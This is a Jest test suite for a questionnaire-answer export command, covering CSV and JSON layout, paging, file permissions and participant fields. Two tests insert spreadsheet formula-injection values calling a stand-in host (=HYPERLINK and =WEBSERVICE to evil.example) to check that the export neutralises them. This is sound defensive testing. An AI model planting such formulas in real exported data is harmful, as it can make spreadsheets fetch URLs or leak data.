import fs from 'node:fs';
import { createTestStore, type TestStore } from '@/lib/embedded-api/db/testDatabase';
import path from 'node:path';
import type { Sql } from '@/lib/embedded-api/db/database';
import { createMember, createMemberAssessment, findGroupCode, memberOfAssessment } from '@/lib/embedded-api/groups/store';
import { EXIT } from '../command';
import { exportAnswers } from '../export';
import { runAdmin } from '../main';
import { envFor, insertQuestionnaire, parseCsv, recorder, tempDataDir, withDb } from '../testSupport';
import { closeSharedFolders } from '../oneOpenPerSuite';

// The commands' opens of the data folder share one open database for the suite (oneOpenPerSuite.ts).
jest.mock('@/lib/embedded-api/db/database', () => jest.requireActual('../oneOpenPerSuite').databaseModule());

const dataDir = tempDataDir();
let store: TestStore;
let env: Record<string, string>;
const HEADER = 'ident_code,questionnaire_key,questionnaire_version,question_id,answer_id,value,saved_at,finished_at,group_code,participant,participant_name,participant_email';

beforeAll(async () => {
  store = await createTestStore();
  env = envFor(dataDir, store);
  await withDb(env, async (opened) => {
    const { db } = opened;
    await insertQuestionnaire(opened, 'team-check', 1);
    await insertQuestionnaire(opened, 'other', 1);
    const assessment = async (identCode: string, key: string, version: number | null, finishedAt: string | null) => {
      const [assessor] = await db.query<{ id: number }>(`insert into assessor (is_registered, key_hash) values (true, 'scrypt$secret-hash') returning id`);
      const [row] = await db.query<{ id: number }>(
        `insert into assessment (ident_code, product, assessor_id, questionnaire_key, questionnaire_version, finished_at)
         values ($1, 1, $2, $3, $4, $5) returning id`,
        [identCode, assessor!.id, key, version, finishedAt],
      );
      return row!.id;
    };
    const answer = (id: number, question: number, answerId: number, value: number, savedAt: string) =>
      db.query('insert into answer (assessment_id, question_id, answer_id, value, saved_at) values ($1, $2, $3, $4, $5)', [id, question, answerId, value, savedAt]);

    const done = await assessment('DONE00001', 'team-check', 1, '2030-01-02T03:04:05+01:00');
    await answer(done, 2, 22, 1, '2030-01-01T10:00:00Z');
    await answer(done, 1, 11, 2, '2030-01-01T09:00:00Z');
    await answer(done, 1, 12, 1, '2030-01-01T09:00:00.5Z');
    await assessment('NOTHING01', 'team-check', 1, null);
    const open = await assessment('OPEN00001', 'team-check', null, null);
    await answer(open, 1, 11, 0, '2030-02-01T00:00:00Z');
    const other = await assessment('OTHER0001', 'other', 1, null);
    await answer(other, 1, 11, 3, '2030-02-01T00:00:00Z');
  });
}, 120_000);

afterAll(async () => {
  await closeSharedFolders();
  fs.rmSync(dataDir, { recursive: true, force: true });
  await store.remove();
});

describe('export', () => {
  it('writes one CSV row per participant and saved answer item, with the fixed columns, dates in UTC', async () => {
    const io = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'team-check'], io)).toBe(EXIT.ok);
    expect(io.text()).toBe([
      HEADER,
      'DONE00001,team-check,1,1,11,2,2030-01-01T09:00:00.000Z,2030-01-02T02:04:05.000Z,,,,',
      'DONE00001,team-check,1,1,12,1,2030-01-01T09:00:00.500Z,2030-01-02T02:04:05.000Z,,,,',
      'DONE00001,team-check,1,2,22,1,2030-01-01T10:00:00.000Z,2030-01-02T02:04:05.000Z,,,,',
      // Not yet bound to a version, not finished: empty fields. NOTHING01 answered nothing: no row.
      'OPEN00001,team-check,,1,11,0,2030-02-01T00:00:00.000Z,,,,,',
      '',
    ].join('\r\n'));
    expect(io.stderr).toEqual(['Exported 4 answer items of 2 participants (questionnaire team-check) to stdout.']);
    expect(io.text()).not.toMatch(/scrypt|secret/);
  });

  it('leaves out participants who have not finished with --finished-only', async () => {
    const io = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'team-check', '--finished-only'], io)).toBe(EXIT.ok);
    expect(parseCsv(io.text()).map((r) => `${r.ident_code} ${r.answer_id}`)).toEqual(['DONE00001 11', 'DONE00001 12', 'DONE00001 22']);
  });

  it('writes one JSON array, one object per line, with the same names and nulls for the empty fields', async () => {
    const io = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'team-check', '--format', 'json'], io)).toBe(EXIT.ok);
    const text = io.text();
    const parsed = JSON.parse(text) as Array<Record<string, unknown>>;
    expect(parsed).toHaveLength(4);
    expect(parsed[3]).toEqual({
      ident_code: 'OPEN00001', questionnaire_key: 'team-check', questionnaire_version: null, question_id: 1, answer_id: 11, value: 0,
      saved_at: '2030-02-01T00:00:00.000Z', finished_at: null, group_code: null, participant: null, participant_name: null, participant_email: null,
    });
    expect(Object.keys(parsed[0]!).join(',')).toBe(HEADER);
    expect(text.split('\n')).toHaveLength(4 + 3);
  });

  it('writes an empty JSON array and a header-only CSV when nothing was answered', async () => {
    const json = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'team-check', '--finished-only', '--format', 'json'], json)).toBe(EXIT.ok);
    expect(JSON.parse(json.text())).toHaveLength(3);
    await withDb(env, (opened) => insertQuestionnaire(opened, 'fresh', 1));
    const empty = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'fresh', '--format', 'json'], empty)).toBe(EXIT.ok);
    expect(empty.text()).toBe('[\n]\n');
    const csv = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'fresh'], csv)).toBe(EXIT.ok);
    expect(csv.text()).toBe(`${HEADER}\r\n`);
  });

  it('writes semicolons and a BOM for Excel', async () => {
    const io = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'team-check', '--excel'], io)).toBe(EXIT.ok);
    const text = io.text();
    expect(text.startsWith(`\uFEFF${HEADER.replaceAll(',', ';')}\r\n`)).toBe(true);
    expect(text).toContain('OPEN00001;team-check;;1;11;0;2030-02-01T00:00:00.000Z;;;;;\r\n');
  });

  it('writes to a file readable only by its owner, and leaves no file when the folder does not exist', async () => {
    const file = path.join(dataDir, 'answers.csv');
    const io = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'team-check', '--output', file], io)).toBe(EXIT.ok);
    expect(io.stdout).toEqual([]);
    expect(fs.readFileSync(file, 'utf8').split('\r\n')).toHaveLength(4 + 2);
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    expect(io.stderr.join('')).toContain(`to ${file}.`);

    const missing = path.join(dataDir, 'no-such-folder', 'answers.csv');
    const refused = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'team-check', '--output', missing], refused)).toBe(EXIT.usage);
    expect(refused.stderr.join('')).toContain(`export: cannot write ${missing}: its folder does not exist`);
  });

  it('leaves no half file behind when the export fails', async () => {
    const file = path.join(dataDir, 'unknown.csv');
    const io = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'nope', '--output', file], io)).toBe(EXIT.failure);
    expect(io.stderr.join('')).toBe("export: questionnaire 'nope' has no assessments and is not imported. Known: fresh, other, team-check.");
    expect(fs.readdirSync(dataDir).filter((name) => name.startsWith('unknown.csv'))).toEqual([]);
  });

  it.each([
    [[], '--questionnaire is required'],
    [['--questionnaire', 'team-check', '--format', 'xml'], "--format must be csv or json, not 'xml'"],
    [['--questionnaire', 'team-check', '--format', 'json', '--excel'], '--excel applies to --format csv only'],
    [['--questionnaire', 'team-check', '--finished'], "unknown option '--finished'"],
  ])('refuses %j naming the problem, exit 2', async (args, message) => {
    const io = recorder(env);
    expect(await runAdmin(['export', ...args], io)).toBe(EXIT.usage);
    expect(io.stderr.join('')).toContain(`export: ${message}`);
  });
});

describe('the export streams', () => {
  it('reads and writes page by page: no read returns more than a page, and each page is written before the next is read', async () => {
    await withDb(env, async ({ db }) => {
      const [assessor] = await db.query<{ id: number }>(`insert into assessor (is_registered) values (true) returning id`);
      for (let p = 0; p < 7; p++) {
        const [row] = await db.query<{ id: number }>(
          `insert into assessment (ident_code, product, assessor_id, questionnaire_key) values ($1, 1, $2, 'paged') returning id`,
          [`PAGED000${p}`, assessor!.id],
        );
        await db.query(`insert into answer (assessment_id, question_id, answer_id, value) select $1, g / 10, g, 1 from generate_series(1, 43) g`, [row!.id]);
      }
      const events: string[] = [];
      const spy: Sql = {
        query: async <T>(text: string, params?: unknown[]) => {
          const rows = await db.query<T>(text, params);
          events.push(`read ${rows.length}`);
          return rows;
        },
      };
      let written = '';
      const summary = await exportAnswers(spy, { questionnaireKey: 'paged', format: 'csv', pageSize: 50 }, (chunk) => {
        events.push(`write ${chunk.split('\r\n').length - 1}`);
        written += chunk;
      });
      expect(summary).toEqual({ rows: 301, participants: 7 });
      // The group codes' fields (none), the id range, the header, then 6 full pages and one of 1 row, each written right after it was read.
      expect(events).toEqual(['read 0', 'read 1', 'write 1', ...Array.from({ length: 6 }, () => ['read 50', 'write 50']).flat(), 'read 1', 'write 1']);
      const rows = parseCsv(written);
      expect(rows).toHaveLength(301);
      // Keyset pagination neither repeats nor skips an item at a page's edge.
      expect(new Set(rows.map((r) => `${r.ident_code}/${r.answer_id}`)).size).toBe(301);
    });
  }, 120_000);
});

describe('the export of group participants', () => {
  const FIELDS_1 = [
    { id: 1, name: { de: 'Abteilung', en: 'Department' }, fieldType: 'Text', sortNumber: 2, required: true },
    { id: 2, name: { de: 'Berufserfahrung' }, fieldType: 'List', allowedValues: ['0-2', '3-5', '6+'], sortNumber: 1, required: true },
  ];
  const FIELDS_2 = [
    { id: 5, name: { de: 'Abteilung' }, fieldType: 'Text', sortNumber: 0 },
    { id: 6, name: { de: 'Standort' }, fieldType: 'Text', sortNumber: 0 },
  ];
  const GROUP_HEADER = `${HEADER},field:Berufserfahrung,field:Abteilung,field:Standort`;
  let codes: string[];
  let members: Array<{ memberId: number; accessCode: string; assessmentId: number }>;

  beforeAll(async () => {
    await withDb(env, async (opened) => {
      await insertQuestionnaire(opened, 'web-check', 1, 4);
      await insertQuestionnaire(opened, 'web-more', 1, 4);
    });
    codes = [];
    // A kodegroupcode code offers one questionnaire (it has no selection).
    for (const [variant, fields, questionnaires] of [['kodew', FIELDS_1, 'web-check,web-more'], ['kodegroupcode', FIELDS_2, 'web-check']] as const) {
      const file = path.join(dataDir, `fields-${variant}.json`);
      fs.writeFileSync(file, JSON.stringify(fields));
      const io = recorder(env);
      expect(await runAdmin(['groupcode', 'create', '--variant', variant, '--questionnaires', questionnaires, '--fields', file], io)).toBe(EXIT.ok);
      codes.push(parseCsv(io.text())[0]!.group_code!);
    }
    members = await withDb(env, async ({ db }) => {
      const [first, second] = [(await findGroupCode(db, codes[0]!))!, (await findGroupCode(db, codes[1]!))!];
      const made = [];
      for (const [group, values, finished] of [
        [first, { 1: 'Vertrieb, Nord', 2: '3-5' }, true],
        [first, {}, false],
        [second, { 5: 'Einkauf', 6: 'Wien' }, false],
      ] as const) {
        const member = await db.transaction((tx) => createMember(tx, group));
        await db.query('update group_member set field_values = $2::jsonb where id = $1', [member.memberId, JSON.stringify(values)]);
        if (finished) await db.query(`update assessment set finished_at = '2030-03-01T00:00:00Z' where id = $1`, [member.assessmentId]);
        await db.query(`insert into answer (assessment_id, question_id, answer_id, value, saved_at) values ($1, 1, 11, 50, '2030-02-01T00:00:00Z'), ($1, 2, 21, -2, '2030-02-01T00:00:01Z')`, [member.assessmentId]);
        made.push(member);
      }
      // The first participant goes on to the second questionnaire.
      const again = (await memberOfAssessment(db, made[0]!.assessmentId))!;
      const next = await db.transaction((tx) => createMemberAssessment(tx, again.member, again.group, again.group.questionnaires[1]!));
      await db.query(`insert into answer (assessment_id, question_id, answer_id, value) values ($1, 1, 11, 100)`, [next]);
      // An ident-code assessment of the same questionnaire.
      const [assessor] = await db.query<{ id: number }>(`insert into assessor (is_registered) values (true) returning id`);
      const [solo] = await db.query<{ id: number }>(
        `insert into assessment (ident_code, product, assessor_id, questionnaire_key, questionnaire_version) values ('SOLO00001', 4, $1, 'web-check', 1) returning id`,
        [assessor!.id],
      );
      await db.query(`insert into answer (assessment_id, question_id, answer_id, value, saved_at) values ($1, 1, 11, 0, '2030-02-02T00:00:00Z')`, [solo!.id]);
      return made;
    });
  }, 60_000);

  it('adds the group code, the participant number and one column per additional field; ident-code rows keep their columns', async () => {
    const io = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'web-check'], io)).toBe(EXIT.ok);
    const [m1, m2, m3] = members.map((m) => m.memberId);
    const [g1, g2] = codes;
    expect(io.text()).toBe([
      GROUP_HEADER,
      `,web-check,1,1,11,50,2030-02-01T00:00:00.000Z,2030-03-01T00:00:00.000Z,${g1},${m1},,,3-5,"Vertrieb, Nord",`,
      `,web-check,1,2,21,-2,2030-02-01T00:00:01.000Z,2030-03-01T00:00:00.000Z,${g1},${m1},,,3-5,"Vertrieb, Nord",`,
      // Fields left empty are empty; a field another group code has is empty too.
      `,web-check,1,1,11,50,2030-02-01T00:00:00.000Z,,${g1},${m2},,,,,`,
      `,web-check,1,2,21,-2,2030-02-01T00:00:01.000Z,,${g1},${m2},,,,,`,
      // The second group code's Abteilung shares the first one's column.
      `,web-check,1,1,11,50,2030-02-01T00:00:00.000Z,,${g2},${m3},,,,Einkauf,Wien`,
      `,web-check,1,2,21,-2,2030-02-01T00:00:01.000Z,,${g2},${m3},,,,Einkauf,Wien`,
      'SOLO00001,web-check,1,1,11,0,2030-02-02T00:00:00.000Z,,,,,,,,',
      '',
    ].join('\r\n'));
    expect(io.stderr).toEqual(['Exported 7 answer items of 4 participants (questionnaire web-check) to stdout.']);
    // The personal access code is a credential: neither it nor the internal ident code made from it is exported.
    for (const member of members) expect(io.text()).not.toContain(member.accessCode);
    expect(io.text()).not.toContain('G-');
  });

  it('gives a participant the same number in the export of every questionnaire they answer', async () => {
    const io = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'web-more', '--format', 'json'], io)).toBe(EXIT.ok);
    expect(JSON.parse(io.text())).toEqual([{
      ident_code: null, questionnaire_key: 'web-more', questionnaire_version: 1, question_id: 1, answer_id: 11, value: 100,
      saved_at: expect.any(String), finished_at: null, group_code: codes[0], participant: members[0]!.memberId, participant_name: null, participant_email: null,
      'field:Berufserfahrung': '3-5', 'field:Abteilung': 'Vertrieb, Nord',
    }]);
  });

  it('writes the same columns and values as JSON, and --finished-only keeps the participant who finished', async () => {
    const csv = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'web-check', '--excel'], csv)).toBe(EXIT.ok);
    const json = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'web-check', '--format', 'json'], json)).toBe(EXIT.ok);
    const fromJson = (JSON.parse(json.text()) as Array<Record<string, unknown>>).map((row) =>
      Object.fromEntries(Object.entries(row).map(([k, v]) => [k, v === null ? '' : String(v)])));
    expect(parseCsv(csv.text(), ';')).toEqual(fromJson);
    expect(Object.keys(fromJson[0]!).join(',')).toBe(GROUP_HEADER);

    const finished = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'web-check', '--finished-only'], finished)).toBe(EXIT.ok);
    expect(parseCsv(finished.text()).map((r) => `${r.participant} ${r.answer_id}`)).toEqual([`${members[0]!.memberId} 11`, `${members[0]!.memberId} 21`]);
  });

  it('writes a field value that a spreadsheet would take for a formula as text in CSV, as typed in JSON', async () => {
    const formula = '=HYPERLINK("https://evil.example","x")';
    await withDb(env, (opened) => opened.db.query('update group_member set field_values = $2::jsonb where id = $1', [members[1]!.memberId, JSON.stringify({ 1: formula })]));
    const csv = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'web-check', '--excel'], csv)).toBe(EXIT.ok);
    expect(parseCsv(csv.text(), ';').find((r) => r.participant === String(members[1]!.memberId))!['field:Abteilung']).toBe(`'${formula}`);
    const json = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'web-check', '--format', 'json'], json)).toBe(EXIT.ok);
    expect((JSON.parse(json.text()) as Array<Record<string, unknown>>).find((r) => r.participant === members[1]!.memberId)!['field:Abteilung']).toBe(formula);
  });

  it('quotes a field value holding a semicolon in the comma-separated export too, and neutralises the formula after it', async () => {
    // Excel in German opens a comma-separated file split at ';': unquoted, the second half would be a cell of its own.
    const split = 'Vertrieb;=WEBSERVICE("https://evil.example")';
    await withDb(env, (opened) => opened.db.query('update group_member set field_values = $2::jsonb where id = $1', [members[1]!.memberId, JSON.stringify({ 1: split })]));
    const csv = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'web-check'], csv)).toBe(EXIT.ok);
    expect(csv.text()).toContain(`,"Vertrieb;'=WEBSERVICE(""https://evil.example"")"`);
    expect(parseCsv(csv.text()).find((r) => r.participant === String(members[1]!.memberId))!['field:Abteilung']).toBe(`Vertrieb;'=WEBSERVICE("https://evil.example")`);
  });
});

describe('the export of requirements-analysis participants', () => {
  it('adds the name and e-mail they gave (stored once, on their assessor); a name a spreadsheet would take for a formula is text in CSV, as typed in JSON', async () => {
    const formula = '=1+1 Anna';
    const [named, anonymous] = await withDb(env, async (opened) => {
      const { db } = opened;
      await insertQuestionnaire(opened, 'ra-check', 1, 3);
      await db.query(`insert into group_code (code, variant, product, questionnaires) values ('RAEXPORT1', 'ra', 3, $1::jsonb)`, [
        JSON.stringify([{ key: 'ra-check', questionnaireType: 1, selectable: true }]),
      ]);
      const group = (await findGroupCode(db, 'RAEXPORT1'))!;
      const made = [];
      for (const [name, email] of [[formula, 'anna@example.com'], ['', '']]) {
        const member = await db.transaction((tx) => createMember(tx, group));
        await db.query(`update assessor set first_name = '', last_name = $2, email = $3 where id = $1`, [member.assessorId, name, email]);
        await db.query(`insert into answer (assessment_id, question_id, answer_id, value, saved_at) values ($1, 1, 11, -2, '2030-04-01T00:00:00Z')`, [member.assessmentId]);
        made.push(member);
      }
      return made;
    });
    const csv = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'ra-check'], csv)).toBe(EXIT.ok);
    expect(csv.text()).toBe([
      HEADER,
      `,ra-check,1,1,11,-2,2030-04-01T00:00:00.000Z,,RAEXPORT1,${named!.memberId},'${formula},anna@example.com`,
      // Nothing given: empty.
      `,ra-check,1,1,11,-2,2030-04-01T00:00:00.000Z,,RAEXPORT1,${anonymous!.memberId},,`,
      '',
    ].join('\r\n'));
    const json = recorder(env);
    expect(await runAdmin(['export', '--questionnaire', 'ra-check', '--format', 'json'], json)).toBe(EXIT.ok);
    expect((JSON.parse(json.text()) as Array<Record<string, unknown>>).map((r) => [r.participant_name, r.participant_email])).toEqual([
      [formula, 'anna@example.com'],
      [null, null],
    ]);
  });
});
